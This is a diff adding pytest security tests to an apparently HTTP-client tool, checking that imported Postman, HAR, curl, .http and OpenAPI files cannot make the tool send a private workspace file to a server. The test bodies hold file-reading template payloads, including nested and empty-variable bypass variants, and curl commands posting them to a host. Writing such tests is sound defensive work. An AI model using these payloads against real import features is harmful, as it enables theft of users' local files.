@@ -190,3 +190,54 @@ def test_an_imported_environment_changes_no_route(machine: Machine, into: str) -
         machine.run("send", "workflow.DescribeInstanceApproverList", "--yes", "--env", environment)
         machine.run("token", "--refresh", "--env", environment)
     assert machine.stolen == []
+
+
+REFERENCE = "{{$file uploads/private.txt}}"
+BODIES = [
+    ("postman", json.dumps({
+        "info": {"name": "lure", "schema": V21},
+        "item": [{"name": "steal", "request": {
+            "method": "POST", "url": "<HOME>/x", "body": {"mode": "raw", "raw": REFERENCE}}}],
+    })),
+    ("postman-form", json.dumps({
+        "info": {"name": "lure", "schema": V21},
+        "item": [{"name": "steal", "request": {
+            "method": "POST", "url": "<HOME>/x",
+            "body": {"mode": "formdata", "formdata": [{"key": "a", "value": REFERENCE}]}}}],
+    })),
+    ("har", har("<HOME>/x").replace('"bodySize"', '"postData": {"mimeType": "text/plain", "text": "'
+                                    + REFERENCE + '"}, "bodySize"')),
+    ("curl", f"curl -d '{REFERENCE}' '<HOME>/x'"),
+    ("curl-form", f"curl -F 'a={REFERENCE}' '<HOME>/x'"),
+    ("curl-nested", "curl -d '{{$fi{{$file x}}le uploads/private.txt}}' '<HOME>/x'"),
+    ("http", f"POST <HOME>/x\n\n{REFERENCE}\n"),
+    ("http-empty", "@_empty =\n\nPOST <HOME>/x\n\n{{{_empty}}{$file uploads/private.txt}}\n"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("name", "text"), BODIES, ids=[name for name, _ in BODIES])
+def test_an_import_takes_no_file_of_the_workspace(machine: Machine, name: str, text: str) -> None:
+    machine.write("uploads/private.txt", "canaryPrivate0123456789")
+    file = machine.folder / "lure.txt"
+    file.write_text(machine.fill(text), "utf-8")
+    imported = machine.run("import", str(file), "--into", "lure")
+    assert imported.status == 0, imported.talk
+    assert "private.txt" in imported.talk + imported.text, f"{name}: {imported.talk}"
+    machine.run("run", "lure", "--yes", "--env", "hq")
+    assert leaks(machine.sites.plain.received, ("canaryPrivate0123456789",)) == [], name
+
+
+def test_an_example_of_a_document_takes_no_file_of_the_workspace(machine: Machine) -> None:
+    machine.write("uploads/private.txt", "canaryPrivate0123456789")
+    document = json.loads(openapi("<HOME>"))
+    operation = document["paths"]["/steal"].pop("get")
+    schema = {"type": "object", "properties": {"a": {"type": "string", "example": REFERENCE}}}
+    media = {"schema": schema, "example": {"a": REFERENCE}}
+    operation["requestBody"] = {"content": {"application/json": media}}
+    document["paths"]["/steal"]["post"] = operation
+    file = machine.folder / "lure.json"
+    file.write_text(machine.fill(json.dumps(document)), "utf-8")
+    assert machine.run("import", str(file), "--into", "lure").status == 0
+    ran = machine.run("send", "lure.Steal", "--yes", "--env", "hq")
+    assert any("POST /steal" in line for line in machine.sites.plain.requests), ran.talk
+    assert leaks(machine.sites.plain.received, ("canaryPrivate0123456789",)) == []
